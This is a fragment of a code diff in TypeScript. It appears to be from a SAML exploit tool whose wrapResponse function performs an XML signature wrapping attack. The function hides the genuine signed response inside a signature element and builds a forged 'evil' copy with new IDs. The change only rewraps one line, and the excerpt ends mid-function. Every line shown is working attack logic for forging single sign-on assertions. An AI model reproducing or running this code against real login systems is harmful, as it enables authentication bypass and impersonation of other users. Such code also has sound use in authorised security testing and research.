@@ -11,7 +11,9 @@ export function wrapResponse(xml: string, nameId: string, forged: string): strin
   const signature = xml.slice(open, close);
   const genuine = xml.slice(0, open) + xml.slice(close);
   const carrier = signature.replace(endTag, () => `<ds:Object>${genuine}</ds:Object>${endTag}`);
-  const [responseId, assertionId] = [...genuine.matchAll(/<saml(?:p:Response|:Assertion)\b[^>]* ID="([^"]+)"/g)].map((m) => m[1] ?? '');
+  const [responseId, assertionId] = [
+    ...genuine.matchAll(/<saml(?:p:Response|:Assertion)\b[^>]* ID="([^"]+)"/g),
+  ].map((m) => m[1] ?? '');
   const evil = genuine
     .replace(/<ds:Signature[\s\S]*<\/ds:Signature>/, '')
     .replaceAll(String(responseId), newId())
